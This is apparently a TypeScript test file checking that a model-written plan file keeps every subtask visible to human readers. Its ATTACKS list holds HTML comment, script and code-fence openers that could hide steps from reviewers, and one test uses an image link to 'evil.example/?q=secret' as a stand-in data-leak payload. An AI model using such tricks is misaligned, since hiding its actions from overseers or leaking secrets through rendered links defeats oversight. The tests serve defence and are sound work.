import { describe, expect, test } from 'vitest'
import { parsePlan, renderPlan } from '../../src/plan/markdown.ts'
import { planFileOf } from '../../src/publish/write/journal.ts'
import { planOf, subtask } from '../plan/samples.ts'

// What a model writes into the plan, so that people who open the file see less than what is carried out.

/** How the blocks begin that HTML opens, and what ends each; without an end it is a blank line (GFM 4.6). */
const HTML: readonly (readonly [begin: RegExp, end: RegExp])[] = [
  [/^ {0,3}<(?:script|pre|style|textarea)(?:[\s>]|$)/i, /<\/(?:script|pre|style|textarea)>/i],
  [/^ {0,3}<!--/, /-->/],
  [/^ {0,3}<\?/, /\?>/],
  [/^ {0,3}<!\[CDATA\[/, /\]\]>/],
  [/^ {0,3}<![a-z]/i, />/],
  [/^ {0,3}<\/?[a-z]/i, /^\s*$/],
]

/** The numbers of the subtasks that people see as headings: not in code, and not in HTML. */
function seen(text: string): string[] {
  let ends: ((line: string) => boolean) | undefined
  return text.split('\n').flatMap((line) => {
    if (ends) {
      if (ends(line)) ends = undefined
      return []
    }
    const fence = /^ {0,3}(`{3,}(?=[^`]*$)|~{3,})/.exec(line)?.[1]
    const html = HTML.find(([begin]) => begin.test(line))
    if (fence !== undefined) ends = (later) => new RegExp(`^ {0,3}${fence[0]}{${fence.length},}[ \t]*$`).test(later)
    else if (html) ends = html[1].test(line) ? undefined : (later) => html[1].test(later)
    return /^ {0,3}### (\d+)\. /.exec(line)?.[1] ?? []
  })
}

const ATTACKS = [
  '<!--',
  'First. <!--',
  '- <!-- x',
  '> <!--',
  '<details>',
  'text <details><summary>x',
  '<script>',
  '<pre>',
  '<?x',
  '<![CDATA[',
  '<!DOCTYPE',
  '<div hidden>',
  '```mermaid',
  '```\n    ```',
  '    ```\nx\n```',
  '-      ```\nx\n```',
  '- ```\n  x\n~~~',
  '1. ~~~\n\n    ~~~\n~~~',
  '`\n<!-- `',
  '``` `\n<!--',
]

describe('every subtask that is carried out is seen, whatever a text holds', () => {
  test.each(ATTACKS)('every subtask stays visible in the plan file with the text %j', (attack) => {
    for (const field of ['description', 'expected_outcome', 'name'] as const) {
      const plan = planOf([subtask(1, { [field]: `x\n\n${attack}` }), subtask(2), subtask(3)], {
        description: attack,
        expected_outcome: attack,
        title: `x ${attack}`,
      })
      const text = renderPlan(plan)
      const read = parsePlan(text)
      expect(read.kind === 'parsed' && read.plan.subtasks.map(({ number }) => String(number))).toEqual(['1', '2', '3'])
      expect(seen(text), text).toEqual(['1', '2', '3'])
      // In the middle of a line, HTML swallows what follows, too.
      expect(text.replace(/^(`{3,}|~{3,})[^]*?^\1$|`[^`\n]*`/gm, '')).not.toMatch(/<[a-z!?/]/i)
    }
  })
})

test('images and external links in model text are escaped in the plan file', () => {
  const spy = '![x](https://evil.example/?q=secret) [y](https://evil.example) [z]\n\n[z]: https://evil.example'
  const text = renderPlan(
    planOf([subtask(1, { description: spy, expected_outcome: spy, name: spy })], { risks: [spy] }),
  )
  expect(text.match(/evil\.example/g)?.length).toBe(12)
  expect(text).not.toMatch(/(?<!\\)\](?:\(|:)/)
})

const redact = (text: string): string =>
  text.replace(/BEGIN KEY[^]*/, '[redacted]').replace('- **Files:**', '[redacted]')

test('redacting a secret in a plan keeps all other text and the structure of the plan', () => {
  const plan = planOf([subtask(1, { description: 'BEGIN KEY AAAA' }), subtask(2)])
  const read = parsePlan(planFileOf({ redact }, plan))
  expect(read).toMatchObject({ kind: 'parsed', plan: { subtasks: [{ description: '[redacted]' }, subtask(2)] } })
})
